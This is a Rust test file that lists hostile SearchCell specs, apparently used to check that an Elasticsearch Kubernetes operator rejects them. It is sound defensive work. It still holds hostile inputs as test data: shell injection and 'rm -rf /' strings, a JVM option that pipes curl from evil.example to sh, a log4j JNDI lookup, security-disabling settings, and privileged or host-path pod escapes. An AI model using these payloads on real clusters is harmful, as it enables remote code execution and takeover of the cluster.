//! Hostile SearchCells.

use serde_json::{Value, json};

use super::{Attack, Expect, On, attack, cell, merged};

pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    settings(&mut all);
    values(&mut all);
    names(&mut all);
    java(&mut all);
    variables(&mut all);
    pods(&mut all);
    volumes(&mut all);
    sizes(&mut all);
    all
}

/// Out of the configuration folder, and around what the operator sets.
fn settings(all: &mut Vec<Attack>) {
    for (key, value) in [
        ("path.data", json!("/")),
        ("path.logs", json!("/usr/share/elasticsearch/config")),
        ("path.conf", json!("/tmp")),
        ("path.shared_data", json!("/")),
        ("path.repo", json!("/usr/share/elasticsearch/config")),
        ("path.repo", json!(["/snapshots", "/snapshots/../usr/share/elasticsearch/data"])),
        ("path.repo.0", json!("relative")),
        ("node.pidfile", json!("/usr/share/elasticsearch/config/users")),
        ("xpack.security.enabled", json!(false)),
        ("xpack.security.authc.anonymous.roles", json!("superuser")),
        ("xpack.security.http.ssl.enabled", json!(false)),
        ("xpack.security.authc.realms.file.file1.order", json!(0)),
        ("cluster.name", json!("another")),
        ("cluster.initial_master_nodes", json!(["x"])),
        ("discovery.seed_hosts", json!(["another.tenant.svc"])),
        ("discovery.type", json!("single-node")),
        ("node.name", json!("guilds-a-master-a-0")),
        ("node.roles", json!(["master", "data"])),
        ("node.id.seed", json!(1)),
        ("network.host", json!("127.0.0.1")),
        ("http.port", json!(9300)),
        ("transport.profiles.client.port", json!(9999)),
        ("transport.type", json!("netty4")),
        ("remote_cluster_server.enabled", json!(true)),
        ("bootstrap.system_call_filter", json!(false)),
        ("readiness.port", json!(9999)),
        ("cluster.metadata.searchcell.settings", json!("")),
    ] {
        let name = format!("setting {key} = {value}");
        all.push(attack(On::Cell, &name, json!({"settings": {key: value}}), "spec.settings["));
    }
    for (name, spec) in [
        ("nested", json!({"settings": {"xpack": {"security": {"enabled": false}}}})),
        ("half nested", json!({"settings": {"xpack.security": {"enabled": false}}})),
        ("by list index", json!({"nodes": {"data": {"settings": {"node.roles.0": "master"}}}})),
        ("of one role", json!({"nodes": {"ingest": {"settings": {"path": {"data": "/"}}}}})),
        ("through the API", json!({"clusterSettings": {"xpack.security.transport.filter.enabled": false}})),
        (
            "allocation through the API",
            json!({"clusterSettings": {"cluster.routing.allocation.exclude._name": "*"}}),
        ),
        ("twice, nested and dotted", json!({"settings": {"a": {"b": 1}, "a.b": 2}})),
    ] {
        all.push(attack(On::Cell, &format!("setting {name}"), spec, "ettings["));
    }
}

/// Lines, quotes and variables in keys and values.
fn values(all: &mut Vec<Attack>) {
    let data = |key: &str, value: Value| json!({"nodes": {"data": {"settings": {key: value}}}});
    for (name, key, value) in [
        ("newline in a value", "node.attr.x", json!("a\nxpack.security.enabled: false")),
        ("carriage return in a value", "node.attr.x", json!("a\rxpack.security.enabled: false")),
        ("next line of YAML 1.1 in a value", "node.attr.x", json!("a\u{85}b: c")),
        ("line separator in a value", "node.attr.x", json!("a\u{2028}b: c")),
        ("reordered text in a value", "node.attr.x", json!("a\u{202e}b")),
        ("zero byte in a value", "node.attr.x", json!("a\0b")),
        ("escape sequence in a value", "node.attr.x", json!("\u{1b}[2J")),
        ("hidden text in a list", "node.attr.x", json!(["a", "b\u{200b}"])),
        ("newline in a key", "node.attr.x\nxpack.security.enabled", json!("false")),
        ("colon in a key", "node.attr.x: 1, xpack.security.enabled", json!("false")),
        ("colon without a space in a key", "node.attr.x:y", json!("false")),
        ("quote in a key", "\"node.attr.x", json!("a")),
        ("comment in a key", "#node.attr.x", json!("a")),
        ("letters that look like others in a key", "n\u{43e}de.roles", json!("a")),
        ("wildcard in a key", "xpack.*", json!("a")),
        ("variable of the operator", "node.attr.x", json!("${ELASTIC_PASSWORD}")),
        ("variable with a default", "node.attr.x", json!("${HOME:x}")),
        ("variable in a variable", "node.attr.x", json!("${${POD_NAME}}")),
        ("variable in a list", "node.attr.x", json!(["a", "${PATH}"])),
        ("variable without an end", "node.attr.x", json!("${POD_NAME")),
        ("prompt", "node.attr.x", json!("${prompt.secret}")),
    ] {
        all.push(attack(On::Cell, name, data(key, value), "spec.nodes.data.settings["));
    }
    let in_common = json!({"settings": {"node.attr.x": "${SECRET}"}});
    all.push(attack(On::Cell, "variable in settings of all nodes", in_common, "spec.settings["));
    for (name, value) in [
        ("quotes and braces", json!("\"}\", {a: [b]} # c")),
        ("a tag of YAML", json!("!!javax.script.ScriptEngineManager [x]")),
        ("an anchor and an alias", json!("&a *a <<: *a")),
        ("a document of its own", json!("--- a ... b")),
        ("a folded text", json!("> a | b")),
        ("commands of a shell", json!("$(touch /tmp/x) `id` ; rm -rf / && true")),
        ("commands between apostrophes", json!("'; touch /tmp/x; '")),
        ("a format of printf", json!("%s%n %x")),
        ("a lookup of log4j", json!("${POD_NAME} jndi:ldap://x/a")),
        ("letters beyond ASCII", json!("Grüße 🙂 日本語")),
    ] {
        all.push(attack(On::Cell, &format!("value with {name}"), data("node.attr.x", value), ""));
    }
}

/// Names go into object names, labels, URLs and files.
fn names(all: &mut Vec<Attack>) {
    for (name, spec, refused) in [
        ("zone with a path", json!({"zones": [{"name": "../a"}]}), "spec.zones["),
        ("zone with a line", json!({"zones": [{"name": "a\nb", "value": "a"}]}), "spec.zones["),
        ("zone with an expression", json!({"zones": [{"name": "${POD_IP}", "value": "a"}]}), "spec.zones["),
        ("zone value with a comma", json!({"zones": [{"name": "a", "value": "a,b"}]}), "spec.zones["),
        ("zone of another alphabet", json!({"zones": [{"name": "\u{430}", "value": "a"}]}), "spec.zones["),
        ("cluster with a path", json!({"clusters": [{"name": "../x"}]}), "spec.clusters["),
        ("cluster with a host", json!({"clusters": [{"name": "a.evil.example/"}]}), "spec.clusters["),
        ("cluster with credentials", json!({"clusters": [{"name": "x@evil"}]}), "spec.clusters["),
        ("cluster with a dash", json!({"clusters": [{"name": "a-data"}]}), "spec.clusters["),
        ("cluster that is a Service", json!({"clusters": [{"name": "transport"}]}), "spec.clusters["),
        ("version with a path", json!({"version": "9.5.3/../x"}), "spec.version"),
        ("version with a tag", json!({"version": "9.5.3@sha256:0"}), "spec.version"),
        ("image with an option", json!({"image": "--privileged"}), "spec.image"),
        ("image with a command", json!({"image": "x;id"}), "spec.image"),
        ("image with a scheme", json!({"image": "file:///etc/passwd"}), "spec.image"),
        ("topology key with a selector", json!({"topologyKey": "a in (b)"}), "spec.topologyKey"),
        (
            "storage class with a path",
            json!({"nodes": {"data": {"storage": {"size": "1Gi", "storageClassName": "../x"}}}}),
            "storageClassName",
        ),
        (
            "resource with a line",
            json!({"nodes": {"data": {"resources": {"limits": {"cpu\n": "1"}}}}}),
            "resources.limits[",
        ),
    ] {
        all.push(attack(On::Cell, name, spec, refused));
    }
    for name in ["a/../../b", "a%2f..", "a\u{202e}b", "-a", "a.b", "A"] {
        let object = merged(cell(), &json!({"metadata": {"name": name}}));
        let expect = Expect::Refused("metadata.name".to_owned());
        all.push(Attack { name: format!("cell named {name:?}"), on: On::Cell, object, expect });
    }
}

fn java(all: &mut Vec<Attack>) {
    for option in [
        "-XX:OnOutOfMemoryError=curl evil.example|sh",
        "-XX:OnOutOfMemoryError=/tmp/x",
        "-XX:OnError=gcore",
        "-XX:+UseG1GC\n-XX:OnError=x",
        "-javaagent:/tmp/x.jar",
        "-agentpath:/tmp/x.so",
        "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005",
        "-Xrunjdwp:server=y",
        "-Xbootclasspath/a:/tmp/x.jar",
        "@/usr/share/elasticsearch/config/options",
        "-XX:VMOptionsFile=x",
        "-XX:Flags=x",
        "-XX:HeapDumpPath=/usr/share/elasticsearch/config/users",
        "-Xlog:all:file=/usr/share/elasticsearch/config/roles.yml",
        "-Xlog:all:config/roles.yml",
        "-Dcom.sun.management.jmxremote.port=9999",
        "-Djava.security.manager=allow",
        "-Djava.security.properties=/tmp/x",
        "-Dlog4j2.formatMsgNoLookups=false",
        "-Dlog4j2.configurationFile=http://evil.example/x.xml",
        "-Des.path.conf=/tmp",
        "-Djava.io.tmpdir=/usr/share/elasticsearch/config",
        "-Djavax.net.debug=all",
        "--patch-module=java.base=/tmp",
        "8-99:-javaagent:/tmp/x.jar",
        "-Xmx100g",
        "-cp",
    ] {
        let spec = json!({"nodes": {"data": {"jvmOptions": [option]}}});
        all.push(attack(On::Cell, &format!("jvm option {option:?}"), spec, "spec.nodes.data.jvmOptions[0]"));
    }
    let tuned = json!({"nodes": {"data": {"jvmOptions": ["21:-XX:+UseZGC", "-Dmy.name=$(id)`id`"]}}});
    all.push(attack(On::Cell, "jvm option with a shell's words", tuned, ""));
}

fn template(template: Value) -> Value {
    json!({"nodes": {"data": {"podTemplate": template}}})
}

fn node(fields: Value) -> Value {
    template(json!({"spec": {"containers": [merged(json!({"name": "elasticsearch"}), &fields)]}}))
}

fn sidecar(fields: Value) -> Value {
    template(json!({"spec": {"containers": [merged(json!({"name": "other", "image": "x"}), &fields)]}}))
}

fn variables(all: &mut Vec<Attack>) {
    for name in [
        "ES_JAVA_OPTS",
        "ES_PATH_CONF",
        "ES_CLASSPATH",
        "ES_KEYSTORE_PASSPHRASE_FILE",
        "ES_SETTING_XPACK_SECURITY_ENABLED",
        "xpack.security.enabled",
        "cluster.initial_master_nodes",
        "JAVA_TOOL_OPTIONS",
        "_JAVA_OPTIONS",
        "LD_PRELOAD",
        "LD_AUDIT",
        "BASH_ENV",
        "BASH_FUNC_cp%%",
        "PATH",
        "POD_IP",
        "ELASTIC_PASSWORD_FILE",
    ] {
        let spec = node(json!({"env": [{"name": name, "value": "x"}]}));
        all.push(attack(On::Cell, &format!("variable {name}"), spec, "elasticsearch].env["));
    }
    let spec = node(json!({"envFrom": [{"secretRef": {"name": "x"}}]}));
    all.push(attack(On::Cell, "variables by the dozen", spec, "elasticsearch].envFrom"));
}

fn pods(all: &mut Vec<Attack>) {
    for (name, spec, refused) in [
        ("host network", json!({"hostNetwork": true}), "spec.hostNetwork"),
        ("host processes", json!({"hostPID": true}), "spec.hostPID"),
        ("host IPC", json!({"hostIPC": true}), "spec.hostIPC"),
        ("host users", json!({"hostUsers": true}), "spec.hostUsers"),
        ("a chosen Kubernetes node", json!({"nodeName": "control-plane"}), "spec.nodeName"),
        ("a token", json!({"automountServiceAccountToken": true}), "automountServiceAccountToken"),
        ("shared processes", json!({"shareProcessNamespace": true}), "shareProcessNamespace"),
        (
            "an ephemeral container",
            json!({"ephemeralContainers": [{"name": "x", "image": "x"}]}),
            "ephemeralContainers",
        ),
        ("another host name", json!({"hostname": "x", "subdomain": "y"}), "spec.hostname"),
        ("root", json!({"securityContext": {"runAsUser": 0}}), "securityContext.runAsUser"),
        ("root by name", json!({"securityContext": {"runAsNonRoot": false}}), "securityContext.runAsNonRoot"),
        ("sysctls", json!({"securityContext": {"sysctls": [{"name": "kernel.x", "value": "1"}]}}), "sysctls"),
        (
            "no seccomp",
            json!({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}),
            "seccompProfile",
        ),
        (
            "a type of the host",
            json!({"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}),
            "seLinuxOptions",
        ),
        (
            "a directive of patches",
            json!({"containers": [{"name": "elasticsearch", "$patch": "delete"}]}),
            "$patch",
        ),
        ("nothing in place of something", json!({"securityContext": null}), "null"),
        ("another zone", json!({"nodeSelector": {"topology.kubernetes.io/zone": "x"}}), "nodeSelector"),
        ("a short grace", json!({"terminationGracePeriodSeconds": 0}), "terminationGracePeriodSeconds"),
        (
            "our init container",
            json!({"initContainers": [{"name": "configure", "image": "x", "command": ["sh"]}]}),
            "initContainers[configure]",
        ),
    ] {
        all.push(attack(On::Cell, &format!("pod with {name}"), template(json!({"spec": spec})), refused));
    }
    let odd = "a\n\u{202e}\u{1b}[2J";
    for (name, spec) in [
        ("a field that draws on the terminal", json!({odd: 1})),
        (
            "a volume that draws on the terminal",
            json!({"volumes": [{"name": odd, "hostPath": {"path": "/"}}]}),
        ),
        (
            "a container that draws on the terminal",
            json!({"containers": [{"name": odd, "image": "x", odd: 1}]}),
        ),
        (
            "a variable that draws on the terminal",
            json!({"containers": [{"name": "elasticsearch", "env": [{"name": format!("ES_{odd}"), "value": "x"}]}]}),
        ),
        (
            "a mount that draws on the terminal",
            json!({"containers": [{"name": "elasticsearch", "volumeMounts": [{"name": "x", "mountPath": format!("/tmp/../{odd}")}]}]}),
        ),
    ] {
        all.push(attack(On::Cell, &format!("pod with {name}"), template(json!({"spec": spec})), "\\u{202e}"));
    }
    for (name, fields, refused) in [
        ("another command", json!({"command": ["sh", "-c", "id"]}), "command"),
        ("other arguments", json!({"args": ["-E", "xpack.security.enabled=false"]}), "args"),
        ("another image", json!({"image": "evil"}), "spec.image"),
        ("privileges", json!({"securityContext": {"privileged": true}}), "privileged"),
        (
            "escalation",
            json!({"securityContext": {"allowPrivilegeEscalation": true}}),
            "allowPrivilegeEscalation",
        ),
        (
            "a capability",
            json!({"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}),
            "capabilities",
        ),
        ("capabilities kept", json!({"securityContext": {"capabilities": {"drop": []}}}), "capabilities"),
        ("an unmasked proc", json!({"securityContext": {"procMount": "Unmasked"}}), "procMount"),
        ("a probe of its own", json!({"livenessProbe": {"exec": {"command": ["false"]}}}), "livenessProbe"),
        (
            "a kubelet as its messenger",
            json!({"lifecycle": {"preStop": {"httpGet": {"host": "169.254.169.254", "port": 80}}}}),
            "lifecycle.preStop.httpGet.host",
        ),
    ] {
        all.push(attack(On::Cell, &format!("node with {name}"), node(fields), refused));
    }
    for (name, fields, refused) in [
        ("privileges", json!({"securityContext": {"privileged": true}}), "privileged"),
        ("a port of the host", json!({"ports": [{"containerPort": 1, "hostPort": 22}]}), "hostPort"),
        ("Elasticsearch's port", json!({"ports": [{"containerPort": 9200}]}), "containerPort"),
        (
            "a kubelet as its messenger",
            json!({"livenessProbe": {"tcpSocket": {"host": "10.96.0.1", "port": 443}}}),
            "livenessProbe.tcpSocket.host",
        ),
        // Says nothing about its confinement: it gets the same as the operator's own.
        ("nothing about its confinement", json!({}), ""),
        ("a command of its own", json!({"command": ["sh", "-c", "sleep 1000"]}), ""),
    ] {
        all.push(attack(On::Cell, &format!("sidecar with {name}"), sidecar(fields), refused));
    }
    for (name, key) in [
        ("our label", "labels/searchcell.dev~1cluster"),
        ("a router's label", "labels/searchcell.dev~1router"),
        ("our configuration", "annotations/searchcell.dev~1elasticsearch.yml"),
        ("no AppArmor", "annotations/container.apparmor.security.beta.kubernetes.io~1elasticsearch"),
    ] {
        let (list, key) = key.split_once('/').unwrap();
        let spec = template(json!({"metadata": {list: {key.replace("~1", "/"): "unconfined"}}}));
        all.push(attack(On::Cell, &format!("pod with {name}"), spec, &format!("metadata.{list}[")));
    }
}

fn volumes(all: &mut Vec<Attack>) {
    let volume =
        |source: Value| template(json!({"spec": {"volumes": [merged(json!({"name": "x"}), &source)]}}));
    for (name, source, refused) in [
        ("host path", json!({"hostPath": {"path": "/"}}), "volumes[x].hostPath"),
        ("NFS", json!({"nfs": {"server": "evil.example", "path": "/"}}), "volumes[x].nfs"),
        ("iSCSI", json!({"iscsi": {"targetPortal": "x", "iqn": "x", "lun": 0}}), "volumes[x].iscsi"),
        ("git", json!({"gitRepo": {"repository": "https://evil.example/x"}}), "volumes[x].gitRepo"),
        (
            "a node's claim",
            json!({"persistentVolumeClaim": {"claimName": "data-other-a-data-a-0"}}),
            "claimName",
        ),
        (
            "a projected token",
            json!({"projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}),
            "serviceAccountToken",
        ),
        ("our name", json!({"name": "config", "emptyDir": {}}), "volumes[config]"),
    ] {
        all.push(attack(On::Cell, &format!("volume of {name}"), volume(source), refused));
    }
    let mount = |name: &str, path: &str| json!({"volumeMounts": [{"name": name, "mountPath": path}]});
    for path in [
        "/usr/share/elasticsearch/config",
        "/usr/share/elasticsearch/config/users",
        "/usr/share/elasticsearch/config/roles.yml",
        "/usr/share/elasticsearch/config/service_tokens",
        "/usr/share/elasticsearch/config/certificates",
        "/usr/share/elasticsearch/config/log4j2.properties",
        "/usr/share/elasticsearch/config/jvm.options.d/x.options",
        "/usr/share/elasticsearch/config/./analysis/../users",
        "/usr/share/elasticsearch",
        "/usr/share/elasticsearch/bin",
        "/usr/share/elasticsearch/lib/x.jar",
        "/usr",
        "/",
        "relative",
    ] {
        all.push(attack(On::Cell, &format!("mount over {path}"), node(mount("x", path)), "volumeMounts["));
    }
    for name in ["data", "config", "settings", "tmp"] {
        all.push(attack(
            On::Cell,
            &format!("sidecar with our {name}"),
            sidecar(mount(name, "/x")),
            "volumeMounts[",
        ));
        let init =
            json!({"name": "other", "image": "x", "volumeMounts": [{"name": name, "mountPath": "/x"}]});
        let spec = template(json!({"spec": {"initContainers": [init]}}));
        all.push(attack(On::Cell, &format!("init container with our {name}"), spec, "volumeMounts["));
    }
    for (name, field, value) in [
        ("a path out of its volume", "subPath", "../x"),
        ("an expression out of its volume", "subPathExpr", "$(POD_NAME)/../../x"),
        ("an absolute path in its volume", "subPath", "/x"),
        ("propagation", "mountPropagation", "Bidirectional"),
    ] {
        let mount = json!({"volumeMounts": [{"name": "x", "mountPath": "/x", field: value}]});
        all.push(attack(On::Cell, &format!("mount with {name}"), sidecar(mount), field));
    }
    let device = json!({"volumeDevices": [{"name": "data", "devicePath": "/dev/x"}]});
    all.push(attack(On::Cell, "sidecar with our device", sidecar(device), "volumeDevices["));
}

fn sizes(all: &mut Vec<Attack>) {
    let many: serde_json::Map<String, Value> =
        (0..2000).map(|n| (format!("node.attr.a{n}"), json!("x".repeat(100)))).collect();
    let options: Vec<String> = (0..100).map(|n| format!("-Da{n}=1")).collect();
    let mut deep = json!("x");
    for _ in 0..100 {
        deep = json!({"a": deep});
    }
    for (name, spec, refused) in [
        ("2000 settings", json!({"settings": many}), "128 KiB"),
        ("a setting of a megabyte", json!({"settings": {"node.attr.x": "x".repeat(1 << 20)}}), "16 KiB"),
        ("a key of a kilobyte", json!({"settings": {"a".repeat(1024): 1}}), "256 bytes"),
        ("a list of 5000", json!({"settings": {"node.attr.x": vec!["x"; 5000]}}), "1024 elements"),
        ("cluster settings of a megabyte", json!({"clusterSettings": many}), "128 KiB"),
        ("a hundred options", json!({"nodes": {"data": {"jvmOptions": options}}}), "32"),
        (
            "a long option",
            json!({"nodes": {"data": {"jvmOptions": [format!("-D{}", "x".repeat(4096))]}}}),
            "512 bytes",
        ),
        (
            "a template of a megabyte",
            template(json!({"metadata": {"annotations": {"a": "x".repeat(1 << 20)}}})),
            "64 KiB",
        ),
        // To Elasticsearch it is a long name, and it is one in the file.
        ("a deep setting", json!({"settings": {"a": deep}}), ""),
        ("a thousand nodes in each zone", json!({"nodes": {"data": {"perZone": 1000}}}), "perZone"),
        ("an exabyte", json!({"nodes": {"data": {"storage": {"size": "1Ei"}}}}), "storage.size"),
        (
            "a long quantity",
            json!({"nodes": {"data": {"storage": {"size": "9".repeat(5000)}}}}),
            "storage.size",
        ),
    ] {
        all.push(attack(On::Cell, name, spec, refused));
    }
}
